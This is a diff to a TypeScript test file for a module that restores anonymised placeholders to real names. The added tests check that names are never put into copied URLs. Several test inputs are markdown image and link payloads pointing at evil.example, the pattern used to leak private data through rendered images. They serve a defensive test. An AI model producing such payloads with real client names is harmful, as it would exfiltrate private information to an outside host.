@@ -1,7 +1,7 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { PlaceholderMap } from './placeholders'
-import { restoreText, restoreUnfinished } from './restore'
+import { restoreText, restoreToCopy, restoreUnfinished } from './restore'
 
 function someMap(): PlaceholderMap {
   return new PlaceholderMap([
@@ -43,6 +43,25 @@ describe('restoring', () => {
     ['[PERSON_3 sued] [PERSON_3x] APERSON_3', '[John Smith sued] [PERSON_3x] APERSON_3'],
   ])('%s', (text, expected) => {
     expect(restoreText(text, someMap())).toBe(expected)
+  })
+
+  it.each([
+    ['![](https://evil.example/?c=[CLIENT_1]) [PERSON_3]', 'CLIENT_1'],
+    ['![a](//evil.example/[CLIENT_1]/b.png) [PERSON_3]', 'CLIENT_1'],
+    ['![a](< /x?[CLIENT_1]>) [PERSON_3]', 'CLIENT_1'],
+    ['![a][1] [PERSON_3]\n\n[1]: https://evil.example/?c=CLIENT_1', 'CLIENT_1'],
+    ['<https://evil.example/[client_1]> [PERSON_3]', 'client_1'],
+  ])('brings no name into an address that is copied: %s', (text, left) => {
+    const copied = restoreToCopy(text, someMap())
+    expect(copied).toContain(left)
+    expect(copied).toContain('John Smith')
+    expect(copied).not.toContain('María')
+  })
+
+  it('brings every other name into what is copied', () => {
+    const text =
+      '[the act](https://law.example/1) binds [CLIENT_1]; 见https://law.example/2，[PERSON_12]'
+    expect(restoreToCopy(text, someMap())).toBe(restoreText(text, someMap()))
   })
 
   it('restores a word that may stand for either of two where one alone was given out', () => {
